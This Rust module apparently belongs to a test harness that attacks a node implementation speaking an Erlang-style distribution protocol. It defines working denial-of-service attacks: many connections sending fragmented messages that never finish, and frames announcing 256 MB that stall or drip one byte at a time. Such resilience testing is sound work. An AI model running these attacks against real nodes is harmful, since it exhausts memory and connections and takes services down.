//! Messages that do not end.

use std::time::{Duration, Instant};

use peerl_node::Term;

use super::Attack;
use super::attacker::{Attacker, Written, head};
use crate::intruder::fragment;

/// The most bytes that one connection sends.
const MOST: usize = 1 << 30;

/// Thousands of messages by each connection, of which each has sent some fragments and lacks others.
pub fn unfinished(connections: usize) -> Attack {
    let name = format!("messages in fragments that never end, {connections} connections");
    Attack::together(name, connections, |attacker, end| {
        const PIECE: usize = 32 << 10;
        const MESSAGES: u64 = 4096;
        let piece = vec![0; PIECE];
        for round in 0.. {
            for sequence in 1..=MESSAGES {
                let frame = if round == 0 {
                    let binary = [&[109][..], &(200u32 << 20).to_be_bytes()].concat();
                    let control = to_name(attacker, sequence as u32, "rex");
                    fragment(69, sequence, 6000, &[&[0][..], &control.encode()[1..], &binary].concat())
                } else {
                    fragment(70, sequence, 6000 - round, &[])
                };
                let length = u32::try_from(frame.len() + piece.len()).expect("a frame");
                if attacker.write(&[&length.to_be_bytes(), &frame, &piece], end) != Written::All {
                    return attacker.wait(end);
                }
                attacker.sent += PIECE as u64;
                if attacker.sent as usize >= MOST {
                    return attacker.wait(end);
                }
            }
        }
    })
}

/// How the rest of an announced frame comes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Rest {
    /// All but its last bytes comes at once, and then nothing.
    Stops,
    /// A byte now and then.
    Drips,
}

/// Frames that announce 256 MB.
pub fn announced(rest: Rest, connections: usize) -> Attack {
    let name = format!("frames of 256 MB, of which the rest {rest:?}, {connections} connections");
    Attack::together(name, connections, move |attacker, end| {
        const SIZE: usize = 256_000_000;
        let control = to_name(attacker, 1, "rex");
        let mut frame = head(&control, 5 + SIZE);
        frame.push(109);
        frame.extend_from_slice(&(SIZE as u32).to_be_bytes());
        let at_once = match rest {
            Rest::Stops => SIZE - 1000,
            Rest::Drips => 100_000,
        };
        let megabyte = vec![0; 1 << 20];
        if attacker.write(&[&frame], end) != Written::All {
            return;
        }
        while (attacker.sent as usize) < at_once {
            let piece = &megabyte[..megabyte.len().min(at_once - attacker.sent as usize)];
            if attacker.write(&[piece], end) != Written::All {
                return attacker.wait(end);
            }
            attacker.sent += piece.len() as u64;
        }
        while rest == Rest::Drips && Instant::now() < end && attacker.write(&[&[0]], end) == Written::All {
            attacker.sent += 1;
            std::thread::sleep(Duration::from_millis(20));
        }
        attacker.wait(end);
    })
}

/// The control message of a message to a name, `{6, From, '', Name}`.
pub(super) fn to_name(attacker: &Attacker, from: u32, name: &'static str) -> Term {
    Term::tuple([6.into(), attacker.process(from).into(), Term::atom(""), Term::atom(name)])
}
